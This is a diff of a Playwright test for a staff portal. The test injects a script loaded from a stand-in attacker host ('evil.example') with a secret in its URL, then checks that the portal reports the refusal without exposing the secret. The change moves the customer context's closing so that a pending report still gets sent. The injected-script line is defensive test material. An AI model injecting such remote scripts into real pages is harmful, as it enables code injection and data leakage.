@@ -168,7 +168,6 @@ test.describe.serial('staff', () => {
       script.src = 'https://evil.example/x.js?secret=1';
       document.head.append(script);
     });
-    await customer.context().close();
 
     await page.goto(`${portal.url}/__portal?view=all&remote=reports`);
     const failures = page.getByRole('table', { name: listOf('failures.all') });
@@ -183,6 +182,8 @@ test.describe.serial('staff', () => {
       await expect(refused).toContainText('https://evil.example/x.js', { timeout: 3_000 });
       await expect(refused).not.toContainText('secret');
     }).toPass();
+    // Not sooner: with it goes a report that hasn't been sent.
+    await customer.context().close();
   });
 
   test('can’t take a remote from an origin that isn’t listed', async () => {
